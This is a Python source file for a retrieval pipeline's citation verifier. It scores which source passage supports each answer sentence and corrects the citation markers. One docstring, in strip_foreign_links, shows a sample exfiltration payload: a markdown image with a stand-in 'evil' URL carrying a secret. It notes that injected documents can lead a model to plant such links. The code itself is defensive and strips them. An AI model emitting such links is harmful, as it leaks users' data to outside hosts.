"""The pipeline, not the model, decides what each answer sentence cites (pure functions).

A source supports a sentence when one span of it (a source sentence or two adjacent
ones) holds the sentence's own claim:

- **its content, weighted by rarity.** The claim is the sentence's content words
  (stemmed, stop words removed) that the question did not already give. Each word
  counts with its tf-idf mass, idf² (the weight a shared term adds to the inner
  product of two tf-idf vectors; Salton & Buckley 1988), with idf = ln(1 + N / df)
  from the collection's document frequencies (`weights`, built by the retriever). So
  a page header's frequent "Supreme Court … United States" cannot carry the rare
  "ruled in favor of" that is the claim. Without `weights` every word counts once.
- **every number, exactly.** Numbers are compared after normalising dashes, thin and
  no-break spaces and thousands separators, so "737–31–\\n1860" in a PDF and
  "737-31-1860" in an answer are one identifier, and "100 kg" never passes for "25 kg".

When no single source supports a sentence, it may be split at a clause boundary
("…, and …", "; ") into clauses each supported on its own (each cites its source),
or be supported jointly by two sources whose spans together hold the claim (both are
cited). A clause the sources do not hold is cut off when the clauses before it are
supported. A cited [n] that supports the sentence is kept; a wrong one is replaced by
the source that does; a missing one is added; a sentence that no source supports is
returned apart, never as part of the answer. Each citation carries a verbatim quote.
"""

from __future__ import annotations

import math
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field

from ingest.chunking import sentence_spans
from ingest.lexical import tokenize

from .types import Citation, Hit

MIN_SUPPORT = 0.5  # at least half of a sentence's content (by mass) must be in the span
MIN_NOVEL = 0.5  # and half of the content the question did not already contain
# Two spans picked from every pair of sources cover a claim's words by chance far more
# often than one span does, so joint support must hold nearly all of the new content.
MIN_JOINT = 0.8
KEEP_MARGIN = 0.15  # keep the model's own [n] unless another source is this much better
UNSUPPORTED = "(not found in the sources)"  # verify()'s inline tag for a sentence no source supports

# These run on model output and document text, so each is linear in its input (no
# two quantifiers that can trade the same characters, no scan that every later start
# repeats): a link's label, URL and title stop at the next "[", where the next try
# starts; the title must begin with the space that ends the URL; and a marker's
# leading spaces are only tried where a run of spaces begins.
_MD_LINK = re.compile(r"(!?)\[([^\[\]]*)\]\(([^)\s\[]*)(?:\s[^)\[]*)?\)")
_BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript):[^\s)\]]+", re.IGNORECASE)
_NUMBER = re.compile(r"\d+(?:[.,]\d+)*(?:-\d+(?:[.,]\d+)*)*")
_DASH = re.compile(r"[\u2010\u2011\u2012\u2013\u2014\u2212]")  # hyphens, en/em dash, minus sign
_BROKEN_DASH = re.compile(r"(?<=\d)-[ \t]*\n[ \t]*(?=\d)")  # "737–\n31": a line broken after the dash
_GROUPED = re.compile(r"(?<=\d)[\u00a0\u2009\u202f,](?=\d{3}(?!\d))")  # "1\u2009200", "1,200": thin or no-break space, or comma (not a plain space: "in 2019 150 people")
_MARKER = re.compile(r"(?<!\s)\s*\[(\d+(?:\s*,\s*\d+)*)\]")
_ANSWER_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
_CLAUSE = re.compile(r";\s*|,\s+(?=(?:and|but|while|whereas|whereby|which|as well as)\b)")  # no leading \s*: quadratic on a run of spaces


@dataclass(frozen=True)
class Span:
    score: float  # share of the sentence's content (by mass) in the span
    start: int
    end: int
    novel: float = 1.0  # share of the content the question did not already contain


@dataclass
class Checked:
    """What the verifier made of an answer: the supported sentences with corrected
    markers (`text`), one citation per cited source, the sentences (or trailing
    clauses) no source supports, and notes on every change."""

    citations: list[Citation] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    pieces: list[tuple[str, bool]] = field(default_factory=list)  # in answer order: (text, supported)

    @property
    def text(self) -> str:
        return " ".join(t for t, ok in self.pieces if ok)

    @property
    def unsupported(self) -> list[str]:
        return [t for t, ok in self.pieces if not ok]


def idf(df: int, n: int) -> float:
    """ln(1 + n / df) (Spärck Jones 1972, smoothed so a word in every passage keeps a
    small weight); a word no passage holds (df 0) counts as one held by one passage."""
    return math.log(1 + max(n, 1) / max(df, 1))


class Rarity(Mapping):
    """term -> idf over a collection (`df(term)` passages of `n` hold it), computed on
    lookup, so no copy of a large vocabulary is made per question. Every word has a
    weight: one the collection never uses is as rare as a word can be (df 0)."""

    def __init__(self, df: Callable[[str], int], n: int, vocabulary: Callable[[], Iterator[str]] = lambda: iter(())):
        self.df, self.n, self._vocabulary = df, n, vocabulary

    def __getitem__(self, term: str) -> float:
        return idf(self.df(term), self.n)

    def __contains__(self, term: object) -> bool:
        return isinstance(term, str)

    def __iter__(self) -> Iterator[str]:
        return self._vocabulary()

    def __len__(self) -> int:
        return sum(1 for _ in self._vocabulary())


def rarity_weights(token_lists: Iterable[Iterable[str]]) -> Rarity:
    """The Rarity of a collection given as token lists (one per passage)."""
    df: dict[str, int] = {}
    n = 0
    for tokens in token_lists:
        n += 1
        for t in set(tokens):
            df[t] = df.get(t, 0) + 1
    return Rarity(lambda t: df.get(t, 0), n, lambda: iter(df))


def normalise_numbers(text: str) -> str:
    """Dashes become "-", a line broken after a dash between digits is joined, and
    digit groups split by thin spaces, no-break spaces or commas are closed up."""
    text = _BROKEN_DASH.sub("-", _DASH.sub("-", text))
    return _GROUPED.sub("", text)


def numbers(text: str) -> set[str]:
    """Numbers and dash-joined identifiers as written, normalised ("1,200" == "1200",
    "737–31–1860" is one identifier)."""
    return set(_NUMBER.findall(normalise_numbers(text)))


def numbers_hold(required: Iterable[str], have: set[str]) -> bool:
    """Every required number is in `have`: as itself, as the first part of an
    identifier ("737" is in "737-8"; "31" is not in "737-31-1860"), or as either end
    of a range of two ("1763" is in "1754-1763")."""
    ends = {p for h in have if h.count("-") == 1 for p in h.split("-")}
    return all(r in have or r in ends or any(h.startswith(r + "-") for h in have) for r in required)


def _mass(terms: Iterable[str], weights: Mapping[str, float] | None, default: float) -> float:
    if not weights:
        return float(len(set(terms)))
    return sum(weights.get(t, default) ** 2 for t in set(terms))


def _default(terms: Iterable[str], weights: Mapping[str, float] | None) -> float:
    """The weight of a claim word the collection does not hold: the rarest of the
    claim's known words (it is at least as rare as they are)."""
    known = [weights[t] for t in terms if t in weights] if weights else []
    return max(known, default=1.0)


class _Candidate:
    """A span of a source with its words; its numbers are read only when a claim has
    some (most have none, and a megabyte of "1.1.1…" is costly to read twice)."""

    __slots__ = ("s", "e", "words", "_text", "_nums")

    def __init__(self, text: str, s: int, e: int):
        self.s, self.e, self._text, self._nums = s, e, text, None
        self.words = set(tokenize(text[s:e]))

    @property
    def nums(self) -> set[str]:
        if self._nums is None:
            self._nums = numbers(self._text[self.s : self.e])
        return self._nums


def _candidates(text: str) -> list[_Candidate]:
    """Single sentences, then pairs of adjacent ones (singles first: shorter wins ties)."""
    spans = sentence_spans(text)
    spans = spans + [(a[0], b[1]) for a, b in zip(spans, spans[1:])]
    return [_Candidate(text, s, e) for s, e in spans]


def best_span(sentence_tokens: set[str], text: str, required_numbers: frozenset[str] = frozenset(), novel_tokens: frozenset[str] = frozenset(), weights: Mapping[str, float] | None = None) -> Span:
    """The span of `text` (one sentence or two adjacent ones) that best supports the
    sentence: most of its new content (what the question did not contain), then most
    of all its content, among spans that hold every required number."""
    if not sentence_tokens:
        return Span(0.0, 0, 0)
    return _best(sentence_tokens, _candidates(text), required_numbers, novel_tokens, weights)


def _best(tokens: set[str], candidates, required: frozenset[str], novel: frozenset[str], weights) -> Span:
    default = _default(tokens, weights)
    total, novel_total = _mass(tokens, weights, default), _mass(novel, weights, default)
    best, best_key = Span(0.0, 0, 0, 0.0), (-1.0, -1.0)
    for c in candidates:
        s, e, words = c.s, c.e, c.words
        if required and not numbers_hold(required, c.nums):
            continue
        share = _mass(tokens & words, weights, default) / total if total else 0.0
        new = _mass(novel & words, weights, default) / novel_total if novel_total else 1.0
        key = (round(new, 9), round(share, 9))
        if key > best_key:  # strictly better only: on ties the earlier, shorter span stays
            best, best_key = Span(share, s, e, new), key
    return best


def strip_foreign_links(answer: str, hits: list[Hit]) -> str:
    """Remove markdown images, links and URLs that appear in no source.

    A document (or a model led on by one) can plant `![](https://evil/?q=secret)`;
    rendered in a browser that would fetch the URL. Links the sources contain stay,
    as plain text. Removing an inner link can join its neighbours into a new one
    (`![![x](a)](//evil)` becomes `![](//evil)`), and a link the pattern does not
    read stays as written, so every "](" left over is broken up at the end: no
    inline link or image survives, whatever the nesting.
    """
    sources = " ".join(h.chunk.text for h in hits)

    def link(m: re.Match) -> str:
        image, label, url = m.groups()
        if url and url in sources:
            return f"{label} ({url})" if label else url
        return "" if image else label

    text = _MD_LINK.sub(link, answer)
    text = _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in sources else "", text)
    return text.replace("](", "] (")


def split_answer(text: str) -> list[tuple[str, list[int]]]:
    """Answer sentences with the source numbers they cite (each once, in order of
    first mention), markers removed."""
    out = []
    for raw in _ANSWER_SENTENCE.split(text.strip()):
        if not raw.strip():
            continue
        cited = list(dict.fromkeys(int(n) for m in _MARKER.finditer(raw) for n in m.group(1).split(",")))
        body = _MARKER.sub("", raw).strip()
        if body:
            out.append((body, cited))
    return out


def split_clauses(sentence: str) -> list[tuple[str, str]]:
    """(separator, clause) pairs at clause boundaries: a semicolon, or a comma before
    "and", "but", "while", "whereas", "whereby", "which", "as well as". The first
    separator is ""; joining the pairs gives the sentence back."""
    out, pos, sep = [], 0, ""
    for m in _CLAUSE.finditer(sentence):
        if sentence[pos : m.start()].strip():
            out.append((sep, sentence[pos : m.start()]))
            sep, pos = m.group(0), m.end()
    out.append((sep, sentence[pos:]))
    return out


def check(answer: str, hits: list[Hit], question: str = "", weights: Mapping[str, float] | None = None, min_support: float = MIN_SUPPORT, min_novel: float = MIN_NOVEL) -> Checked:
    """Check and correct the citations of `answer` against the numbered `hits`.

    `weights`: each term's idf in the collection (rag.retrievers.BM25Retriever.term_weights,
    or `rarity_weights`); a source supports a claim when its span holds `min_support`
    of the sentence's content mass and `min_novel` of the mass the `question` did not
    already contain: echoing the question is easy, the answer's own words are the claim.
    """
    sources = {n: _candidates(h.chunk.text) for n, h in enumerate(hits, start=1)}
    asked = frozenset(tokenize(question))
    rule = (sources, asked, weights, min_support, min_novel)
    out = Checked()
    quoted: dict[int, tuple[int, int]] = {}  # source number -> the characters its quote covers
    seen: set[str] = set()
    for body, claimed in split_answer(answer):
        if body.lower() in seen:  # a small model may loop on one sentence
            continue
        seen.add(body.lower())
        claim = _claim(body, asked)
        if not claim[0]:
            out.pieces.append((body, True))
            continue
        parts, rest, how = _support(body, claimed, rule, claim)
        if not parts:
            out.pieces.append((body, False))
            out.notes.append(f"no source supports: {body[:60]}")
            continue
        cited = list(dict.fromkeys(n for _, _, spans in parts for n, _ in spans))
        if how:
            out.notes.append(f"{how} {cited} for: {body[:60]}")
        elif claimed and cited != claimed:
            out.notes.append(f"{'corrected' if any(n not in cited for n in claimed) else 'added'} citation {claimed} -> {cited} for: {body[:60]}")
        elif not claimed:
            out.notes.append(f"added citation {cited} for: {body[:60]}")
        out.pieces.append((_marked(parts, finished=not rest), True))
        if rest:
            out.pieces.append((rest, False))
            out.notes.append(f"no source supports the end of: {body[:60]}")
        for _, _, spans in parts:
            for n, span in spans:
                quoted[n] = _joined(hits[n - 1].chunk.text, quoted.get(n), (span.start, span.end))
    out.citations = [Citation(n, c.source, c.page, c.text[s:e], c.chunk_id, c.ocr) for n, (s, e) in sorted(quoted.items()) for c in [hits[n - 1].chunk]]
    return out


def _joined(text: str, quote: tuple[int, int] | None, span: tuple[int, int]) -> tuple[int, int]:
    """A source's quote with one more supporting span: both as one quote where they
    touch or only space parts them (two sentences in a row), else the first one."""
    if quote is None:
        return span
    (a, b), (c, d) = sorted([quote, span])
    return (a, max(b, d)) if not text[b:c].strip() else quote


def verify(answer: str, hits: list[Hit], question: str = "", min_support: float = MIN_SUPPORT, min_novel: float = MIN_NOVEL, weights: Mapping[str, float] | None = None) -> tuple[str, list[Citation], list[str]]:
    """`check` as one text: the answer with corrected markers and each sentence no
    source supports kept in place, tagged UNSUPPORTED; the citations; the notes."""
    checked = check(answer, hits, question, weights, min_support, min_novel)
    text = " ".join(t if ok else f"{t} {UNSUPPORTED}" for t, ok in checked.pieces)
    return text, checked.citations, checked.notes


def _support(body: str, claimed: list[int], rule, claim) -> tuple[list, str, str]:
    """How the sources support `body`: ([(separator, clause, [(n, span)...])...],
    the unsupported rest, how). A sentence with clauses is checked clause by clause,
    so a true first half cannot carry an invented second one: the clauses up to the
    first one no source holds are kept and the rest is returned apart; when every
    clause is held, one source for the whole sentence is cited once, else each clause
    its own. Otherwise one source for the whole sentence, else two jointly. Nothing
    found: ([], "", "")."""
    one = _single(body, claimed, rule, claim)
    clauses = split_clauses(body)
    found = [(sep, clause, _single(clause, claimed, rule)) for sep, clause in clauses] if len(clauses) > 1 else []
    held = 0
    while held < len(found) and found[held][2]:
        held += 1
    if found and held == len(found) and not one:
        return found, "", "split at clauses:"
    if found and 0 < held < len(found):
        rest = "".join(sep + clause for sep, clause, _ in found[held:]).lstrip(" ,;")
        return found[:held], rest, "kept the supported clauses:"
    if one:
        return [("", body, one)], "", ""
    both = _joint(claim, rule)
    return ([("", body, both)], "", "supported jointly by") if both else ([], "", "")


def _claim(text: str, asked: frozenset[str]) -> tuple[set[str], frozenset[str], frozenset[str]]:
    tokens = set(tokenize(text))
    return tokens, frozenset(numbers(text)), frozenset(tokens - asked)


def _single(text: str, claimed: list[int], rule, claim=None) -> list[tuple[int, Span]]:
    """The source(s) that alone support `text` (its `claim`, when already analysed):
    the model's own [n] when it supports it and is within KEEP_MARGIN of the best,
    else the best one; [] when none does."""
    sources, asked, weights, min_support, min_novel = rule
    tokens, required, novel = claim or _claim(text, asked)
    if not tokens:
        return []
    spans = {n: _best(tokens, c, required, novel, weights) for n, c in sources.items()}
    ok = [n for n, s in spans.items() if s.score >= min_support and s.novel >= min_novel]
    if not ok:
        return []
    best = max(ok, key=lambda n: (spans[n].novel, spans[n].score))
    kept = [n for n in claimed if n in ok and spans[n].score >= spans[best].score - KEEP_MARGIN]
    return [(n, spans[n]) for n in kept or [best]]


def _joint(claim, rule) -> list[tuple[int, Span]]:
    """Two sources whose spans together hold the claim (its numbers, `min_support` and
    MIN_JOINT of its new mass), each adding some of the claim the other lacks; [] if none."""
    sources, asked, weights, min_support, min_novel = rule
    tokens, required, novel = claim
    claim = novel or frozenset(tokens)
    default = _default(tokens, weights)
    total, novel_total = _mass(tokens, weights, default), _mass(novel, weights, default)
    useful = {n: [c for c in cs if claim & c.words or (required and required & c.nums)] for n, cs in sources.items()}
    best, best_key = [], (-1.0, -1.0)
    ns = sorted(useful)
    for i, a in enumerate(ns):
        for b in ns[i + 1 :]:
            for ca in useful[a]:
                sa, ea, wa = ca.s, ca.e, ca.words
                for cb in useful[b]:
                    sb, eb, wb = cb.s, cb.e, cb.words
                    if not (claim & wa) - wb or not (claim & wb) - wa:
                        continue  # one of them adds nothing: not a joint claim
                    if required and not numbers_hold(required, ca.nums | cb.nums):
                        continue
                    words = wa | wb
                    share = _mass(tokens & words, weights, default) / total
                    new = _mass(novel & words, weights, default) / novel_total if novel_total else 1.0
                    key = (round(new, 9), round(share, 9))
                    if share >= min_support and new >= max(min_novel, MIN_JOINT) and key > best_key:
                        best_key = key
                        best = [(a, _alone(tokens, novel, sa, ea, wa, weights, default)), (b, _alone(tokens, novel, sb, eb, wb, weights, default))]
    return best


def _alone(tokens, novel, s, e, words, weights, default) -> Span:
    total, novel_total = _mass(tokens, weights, default), _mass(novel, weights, default)
    return Span(_mass(tokens & words, weights, default) / total, s, e, _mass(novel & words, weights, default) / novel_total if novel_total else 1.0)


def _marked(parts: list, finished: bool) -> str:
    """The supported clauses with each one's markers; a sentence cut short ends with "."."""
    out = []
    for i, (sep, clause, spans) in enumerate(parts):
        ns = [n for n, _ in spans]
        last = i == len(parts) - 1
        if last and not finished:
            clause = clause.rstrip(" ,;") + "."
        out.append(sep + (_with_markers(clause, ns) if last else f"{clause.rstrip()} {''.join(f'[{n}]' for n in ns)}"))
    return "".join(out)


def _with_markers(body: str, ns: list[int]) -> str:
    """'Leave is 1.5 days.' + [1] -> 'Leave is 1.5 days [1].'"""
    marks = "".join(f"[{n}]" for n in ns)
    stem = body.rstrip(".!?")  # not re.search("[.!?]+$"): quadratic on "....x"
    if len(stem) < len(body):
        return f"{stem} {marks}{body[len(stem):]}"
    return f"{body} {marks}"
